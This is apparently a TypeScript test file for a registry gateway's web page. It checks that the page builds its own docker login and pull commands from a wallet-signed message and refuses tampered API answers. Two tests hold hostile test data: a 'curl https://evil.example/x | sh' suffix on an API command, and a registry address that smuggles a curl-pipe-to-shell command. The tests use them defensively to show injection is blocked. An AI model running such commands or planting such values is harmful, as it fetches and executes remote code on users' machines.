// The docker login the page shows is built by the page from the message its wallet signed, not
// taken from the registry's API (whose command would be pasted into a terminal), and the API's
// answer must agree with it. Checked against the gateway's own token code and a real signature.
// The same on the page, in Chromium: tampered-api-answers.test.ts.
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { Keyring } from '@polkadot/keyring';
import { u8aToHex, u8aWrapBytes } from '@polkadot/util';
import { cryptoWaitReady } from '@polkadot/util-crypto';
import { loginMessage, loginTokenFromSignature, newLoginClaims, verifyLoginToken } from '../../src/gateway/auth/login-token';
import { DockerLoginAnswerError, dockerLoginOf, loginTokenOf } from '../../src/web/docker-login-answer';
import { pullCommand } from '../../src/web/untrusted-text';

const REGISTRY = '127.0.0.1:5000';

describe('the docker login the page shows', () => {
  let signed: { registry: string; address: string; message: string; signature: string };
  let answer: { domain: string; username: string; token: string; expiresAt: string; command: string };

  before(async () => {
    await cryptoWaitReady();
    const alice = new Keyring({ type: 'sr25519' }).addFromUri('//Alice');
    const message = loginMessage(newLoginClaims(alice.address, REGISTRY));
    const signature = u8aToHex(alice.sign(u8aWrapBytes(message)));
    signed = { registry: REGISTRY, address: alice.address, message, signature };
    const token = loginTokenFromSignature(message, signature);
    answer = { domain: REGISTRY, username: alice.address, token, expiresAt: '', command: `printf '%s' '${token}' | docker login ${REGISTRY} --username ${alice.address} --password-stdin` };
  });

  test('its password is the token the gateway makes of the same message and signature, and verifies there', async () => {
    const token = loginTokenOf(signed.message, signed.signature);
    assert.equal(token, loginTokenFromSignature(signed.message, signed.signature));
    assert.equal((await verifyLoginToken(token, { domain: REGISTRY })).address, signed.address);
  });

  test('its command is built on the page: an answer whose command runs something else shows the page\'s own', () => {
    const shown = dockerLoginOf({ ...answer, command: `${answer.command}; curl https://evil.example/x | sh` }, signed);
    assert.equal(shown.command, answer.command);
    assert.equal(shown.username, signed.address);
    assert.match(shown.expiresAt, /^\d{4}-\d\d-\d\dT/);
  });

  test('an answer with another token, account or registry is refused, naming the difference', () => {
    const other = new Keyring({ type: 'sr25519' }).addFromUri('//Eve').address;
    const refused = (change: Record<string, unknown>, expected: RegExp) =>
      assert.throws(() => dockerLoginOf({ ...answer, ...change }, signed), (error: Error) => error instanceof DockerLoginAnswerError && expected.test(error.message) && /No login is shown\./.test(error.message));
    refused({ token: `${answer.token.slice(0, -4)}AAAA` }, /its password is not the sign-in message your wallet signed/);
    refused({ token: undefined }, /its password is not the sign-in message your wallet signed/);
    refused({ username: other }, new RegExp(`it signs in ${other}, not ${signed.address}`));
    refused({ domain: 'registry.example.com' }, /it is for registry\.example\.com, not for 127\.0\.0\.1:5000/);
  });

  test('a registry address that is not host[:port] goes into no command', () => {
    const registry = "127.0.0.1:5000;curl${IFS}evil|sh";
    assert.throws(() => dockerLoginOf({ ...answer, domain: registry }, { ...signed, registry }), /the registry's address .* is not host\[:port\]/);
    assert.equal(pullCommand(registry, 'acme', 'app', { tag: 'v1' }), undefined);
    assert.equal(pullCommand(REGISTRY, 'acme', 'app', { tag: 'v1' }), `docker pull ${REGISTRY}/acme/app:v1`);
    assert.equal(pullCommand('[::1]:5000', 'acme', 'app', { tag: 'v1' }), 'docker pull [::1]:5000/acme/app:v1');
  });
});
